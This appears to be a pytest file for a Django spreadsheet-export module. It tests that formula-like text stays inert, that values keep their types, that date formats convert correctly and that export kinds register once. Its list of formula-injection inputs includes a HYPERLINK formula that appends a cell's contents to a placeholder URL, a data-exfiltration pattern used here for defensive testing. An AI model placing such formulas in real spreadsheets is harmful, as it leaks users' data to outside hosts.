"""The shared spreadsheet module: a text is written as text on any sheet, other values keep
their types, a date format becomes Excel's, and each export kind is registered by exactly one
area."""

import datetime as dt
import io

import pytest
from django.core.exceptions import ImproperlyConfigured
from openpyxl import Workbook, load_workbook

from ish.spreadsheets import excel_format, export_kind, registered_export, write_cell

FORMULA_LIKE = ["=1+1", "+1", "-1", "@A1", "\t=1+1", '=HYPERLINK("http://x"&A1,"Open CV")', "#REF!"]


def written_and_read(values: list) -> list:
    """The cells of one row of an ordinary workbook, as a reader gets them back."""
    workbook = Workbook()
    for column, value in enumerate(values, start=1):
        write_cell(workbook.active, 1, column, value)
    target = io.BytesIO()
    workbook.save(target)
    target.seek(0)
    return list(next(load_workbook(target).active.iter_rows()))


def test_formula_like_text_written_into_an_ordinary_sheet_stays_text():
    cells = written_and_read(FORMULA_LIKE)

    assert [cell.value for cell in cells] == FORMULA_LIKE
    assert [cell.data_type for cell in cells] == ["s"] * len(FORMULA_LIKE)
    assert all(cell.quotePrefix for cell in cells)


def test_other_values_keep_their_types_and_plain_text_no_quote_prefix():
    number, day, text = written_and_read([2027, dt.date(2027, 7, 17), "Heidelberg = Neckar"])

    assert (number.value, number.data_type) == (2027, "n")
    assert day.is_date
    assert (text.value, text.data_type, text.quotePrefix) == ("Heidelberg = Neckar", "s", False)


@pytest.mark.parametrize(
    ("django_format", "excel"),
    [
        ("d.m.Y, H:i", 'dd.mm.yyyy"," hh:mm'),
        ("j M Y", "d mmm yyyy"),
        ("Y年n月j日 G:i", 'yyyy"年"m"月"d"日" h:mm'),
        ("j \\d\\e F", 'd "d""e" mmmm'),  # Django's escaped letters stay letters
    ],
)
def test_a_django_date_format_becomes_the_excel_number_format_that_writes_the_same(
    django_format, excel
):
    assert excel_format(django_format) == excel


def test_a_date_format_excel_cannot_write_is_refused_rather_than_written_wrong():
    with pytest.raises(ValueError, match="No Excel code for “P”"):
        excel_format("j M Y, P")


def test_an_export_kind_registered_twice_is_refused():
    with pytest.raises(ImproperlyConfigured, match="'roster' is registered twice"):
        export_kind("roster", roles=["organiser"])(lambda user, season: [])

    assert registered_export("roster").roles == {"organiser", "coordinator", "lab_host"}


def test_an_export_kind_no_area_registers_is_named():
    with pytest.raises(ImproperlyConfigured, match="'nonsense'"):
        registered_export("nonsense")
